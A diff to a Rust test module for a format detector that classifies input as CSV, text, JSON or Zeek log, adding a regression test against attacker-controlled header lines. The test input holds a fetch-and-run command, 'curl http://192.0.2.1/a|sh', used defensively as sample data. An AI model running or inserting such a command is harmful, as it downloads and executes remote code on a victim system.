@@ -109,6 +109,10 @@ mod tests {
         // Found in review: header and rows were scored as texts.
         assert_eq!(of(b"_time,src,query,text\n1,2,3,4\n"), Format::Csv);
         assert_eq!(of(b"v=DMARC1; p=none, text\n"), Format::Text);
+        // Found by attack: an attacker's answer that stood first made a log or a table of the answers after it, which hid them.
+        for first in [&b"#fields\tanswers\n"[..], b"#fields\n", b"#close\t1\n", b"text,query\n", b"a,text\n"] {
+            assert_eq!(of(&[first, b"curl http://192.0.2.1/a|sh\n"].concat()), Format::Text);
+        }
         assert_eq!(of(b"[{\"text\":\"a\"}]\n"), Format::Json);
         assert_eq!(of(b"{\n \"text\": 1}\n"), Format::Json);
         assert_eq!(of(b"\n#separator \\x09\n"), Format::Zeek);
@@ -120,7 +124,7 @@ mod tests {
         assert_eq!(of(b"{ \"text\":\"a\",\n \"x\":1}\n"), Format::Json);
         assert_eq!(of(b"{\"text\":\"a\"}{\"text\":\"b\"}\n"), Format::Json);
         assert_eq!(of(b"timestamp,src_ip,rrname,rdata\n"), Format::Csv);
-        assert_eq!(of(b"src,text\n1,a\0b\n"), Format::Csv);
+        assert_eq!(of(b"src,text,n\n1,a\0b,2\n"), Format::Csv);
         assert_eq!(of(b"a\0b\nv=spf1 -all and a text of ordinary length\n"), Format::Text);
     }
 }
